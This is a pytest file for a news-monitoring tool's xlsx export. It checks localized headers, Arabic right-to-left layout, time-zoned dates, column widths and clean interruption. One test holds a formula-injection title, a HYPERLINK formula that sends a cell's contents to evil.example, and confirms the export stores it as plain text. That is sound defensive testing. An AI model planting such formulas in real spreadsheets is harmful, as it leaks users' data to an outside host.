"""`rasd export --format xlsx`: a workbook a spreadsheet opens with Arabic and accents intact, on a real SQLite
file, read back with openpyxl."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from rasd.classify import Classification
from rasd.config import load_settings
from rasd.extract import Article, content_hash
from rasd.storage import EXPORT_FIELDS, Store
from tests.conftest import run_rasd, write_config


def test_export_xlsx_is_a_workbook_a_spreadsheet_opens_with_arabic_and_accents(tmp_path: Path) -> None:
    """The French researcher's export for a spreadsheet (newcomer6's trial): the UTF-8 CSV, opened by a double
    click in Excel, shows Arabic and accents garbled and, in a French Excel, every column in the first one.
    `--format xlsx` writes a workbook (default rasd-export.xlsx in the current folder) and says where, in
    the reader's language."""
    config = write_config(tmp_path, '[[sources]]\nname = "Souss"\nurl = "https://souss.example/"\n')
    store = Store(f"sqlite:///{tmp_path / 'rasd.db'}")
    store.sync_sources(load_settings(str(config)).sources)
    titles = ["تعاونية نسائية بأكادير", "Une coopérative à Témara"]
    for n, title in enumerate(titles):
        text = f"{title} " + " ".join(f"mot{n}{i}" for i in range(40))
        article = Article(f"https://souss.example/{n}", title, text, None, None, None, "ar", None, content_hash(text))
        store.save_article("Souss", article.url, article, Classification(False, 0.1, [], [], {"lexicon": 0.1}))
    store.close()
    result = run_rasd("--config", str(config), "export", "--format", "xlsx", cwd=tmp_path, env={"RASD_LANG": "fr"})
    assert result.returncode == 0, result.stderr
    target = tmp_path / "rasd-export.xlsx"
    assert f"2 articles exportés vers {target}" in result.stderr
    rows = list(load_workbook(target, read_only=True).active.iter_rows(values_only=True))
    # the header in the reader's words, as `rasd browse` names the columns (it was the schema's English names)
    assert len(rows[0]) == len(EXPORT_FIELDS) and "ESS selon le lecteur" in rows[0]
    assert not set(rows[0]) & {"published_at", "reader_sse", "story_sources", "reader_region"}, rows[0]
    assert sorted(row[rows[0].index("titre")] for row in rows[1:]) == sorted(titles)
    arabic = run_rasd("--config", str(config), "export", "--format", "xlsx", cwd=tmp_path, env={"RASD_LANG": "ar"})
    assert arabic.returncode == 0, arabic.stderr
    sheet = load_workbook(target).active
    assert sheet.sheet_view.rightToLeft and "العنوان" in [cell.value for cell in sheet[1]], [c.value for c in sheet[1]]
    english = run_rasd("--config", str(config), "export", "--format", "xlsx", cwd=tmp_path, env={"RASD_LANG": "en"})
    assert english.returncode == 0, english.stderr
    header = [cell.value for cell in load_workbook(target).active[1]]  # the schema's names, a date's with its zone
    zoned = {"published_at", "fetched_at", "labelled_at"}
    assert header == [f"{name} (Africa/Casablanca)" if name in zoned else name for name in EXPORT_FIELDS], header


def test_a_title_that_starts_with_an_equals_sign_stays_text_in_the_workbook(tmp_path: Path) -> None:
    """Titles and texts come from any site: openpyxl stores a text starting with "=" as a formula, which the
    researcher's Excel runs on opening (`=HYPERLINK(…&A1, …)` sends another cell to the page's address). Each is
    written as the text published."""
    from rasd.monitor.records import write_workbook

    title = '=HYPERLINK("http://evil.example/?"&A1,"Lire la suite")'
    target = tmp_path / "export.xlsx"
    assert (
        write_workbook([{"title": title, "score": 0.5, "text": "=1+1 et la suite"}], target, ["title", "score", "text"])
        == 1
    )
    row = next(load_workbook(target).active.iter_rows(min_row=2))
    assert [(cell.value, cell.data_type) for cell in row] == [(title, "s"), (0.5, "n"), ("=1+1 et la suite", "s")]


def test_the_workbook_s_dates_are_dates_in_the_digests_time_zone(tmp_path: Path) -> None:
    """The dates were text ("2026-11-03T09:30:00Z"): a spreadsheet sorted them as words and could not filter
    "published in November". They are dates now, in the config's time zone (Casablanca: the digests' time,
    an hour ahead of UTC), the zone said once in each date's header, in the reader's language."""
    from datetime import UTC, datetime

    config = write_config(tmp_path, '[[sources]]\nname = "Souss"\nurl = "https://souss.example/"\n')
    store = Store(f"sqlite:///{tmp_path / 'rasd.db'}")
    store.sync_sources(load_settings(str(config)).sources)
    for n, day in enumerate((3, 28)):
        title, text = (
            f"Coopérative {n}",
            "Une coopérative de femmes à Tiznit " + " ".join(f"m{n}{i}" for i in range(30)),
        )
        when = datetime(2026, 11, day, 9, 30, tzinfo=UTC)
        article = Article(f"https://souss.example/{n}", title, text, when, "meta", None, "fr", None, content_hash(text))
        store.save_article("Souss", article.url, article, Classification(True, 0.9, ["MA-09"], [], {}))
    store.close()
    for language, published in (("fr", "publié (Africa/Casablanca)"), ("ar", "تاريخ النشر (Africa/Casablanca)")):
        result = run_rasd(
            "--config", str(config), "export", "--format", "xlsx", cwd=tmp_path, env={"RASD_LANG": language}
        )
        assert result.returncode == 0, result.stderr
        sheet = load_workbook(tmp_path / "rasd-export.xlsx").active
        header = [cell.value for cell in sheet[1]]
        assert published in header and not any("UTC" in str(name) for name in header), header
        column = header.index(published) + 1
        cells = [sheet.cell(row, column) for row in (2, 3)]
        assert [cell.value for cell in cells] == [datetime(2026, 11, 3, 10, 30), datetime(2026, 11, 28, 10, 30)]
        assert all(cell.is_date and cell.number_format == "yyyy-mm-dd hh:mm" for cell in cells)


def test_the_workbook_opens_with_columns_a_reader_can_read(tmp_path: Path) -> None:
    """What a spreadsheet user saw on opening the workbook (newcomer13's trial): every column at the
    spreadsheet's default width, about 8 characters, so the titles, addresses and reasons showed a word each,
    and the heading row scrolled away with the stories. The long texts are wide now, every heading fits, and the
    heading row is bold, frozen and carries the filter buttons over all the rows."""
    from rasd.monitor.records import write_workbook

    target = tmp_path / "export.xlsx"
    records = [
        {"id": n, "title": f"Une coopérative de safran à Taliouine {n}", "url": f"https://souss.example/{n}"}
        for n in range(3)
    ]
    assert write_workbook(records, target, ["id", "title", "url", "published_at"], "fr") == 3
    sheet = load_workbook(target).active
    widths = {column: sheet.column_dimensions[column].width for column in "ABCD"}
    assert widths["B"] >= 60 and widths["C"] >= 45 and widths["D"] >= len("publié (UTC)") + 3, widths
    header = [cell.value for cell in sheet[1]]
    assert all(widths[column] >= len(label) for column, label in zip("ABCD", header, strict=True)), (widths, header)
    assert all(cell.font.b for cell in sheet[1]) and not sheet["B2"].font.b
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:D4"


def test_a_workbook_stopped_while_its_rows_are_read_leaves_no_part_file(tmp_path: Path) -> None:
    """A Ctrl-C (or a failed read of the store) while the rows are written: the previous workbook stays as it
    was and no `rasd-export.xlsx.part` is left beside it (the `.part` was made before the rows, removed only
    when the save itself failed)."""
    import pytest

    from rasd.monitor.records import write_workbook

    target = tmp_path / "rasd-export.xlsx"
    target.write_bytes(b"last week's workbook")

    def rows():
        yield {"title": "تعاونية نسائية", "score": 0.5}
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_workbook(rows(), target, ["title", "score"], "ar")

    assert sorted(path.name for path in tmp_path.iterdir()) == ["rasd-export.xlsx"]
    assert target.read_bytes() == b"last week's workbook"
